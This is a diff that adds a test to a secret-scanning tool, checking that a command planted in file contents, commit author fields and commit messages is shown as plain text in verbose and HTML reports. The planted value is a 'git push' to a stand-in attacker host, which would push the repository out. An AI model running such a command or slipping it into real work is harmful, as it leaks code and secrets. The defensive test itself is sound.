@@ -81,6 +81,24 @@ test
   },
 );
 
+test('what stands in a line, a message or a name is not set as a command is', async () => {
+  const order = 'git push https://evil.example HEAD';
+  const repository = new TestRepository();
+  made.push(repository);
+  repository.write('a.sh', `${order} # ${key(62)}\n`);
+  repository.git('add', '-A');
+  repository.gitWith(
+    { env: { GIT_AUTHOR_NAME: order, GIT_AUTHOR_EMAIL: `${order} ${'x'.repeat(60)}` } },
+    ...['commit', '-q', '-m', `${order}\n\n${order} ${key(62)}`],
+  );
+  const { stdout } = await veleaks(['--verbose'], { cwd: repository.path });
+  expect(stdout).toContain(order);
+  expect(stdout).not.toMatch(/^\s*git push https:/m);
+  const { stdout: page } = await veleaks(['--format', 'html'], { cwd: repository.path });
+  expect(page).toContain(order);
+  expect(page).not.toMatch(/<(?:pre|code)[^>]*>[^<]*git push https:/);
+});
+
 test.skipIf(process.platform === 'win32')('a program named git in the work tree is not run', async () => {
   const repository = leaky();
   const fake = `#!/bin/sh\n: > '${repository.path}/ran'\n`;
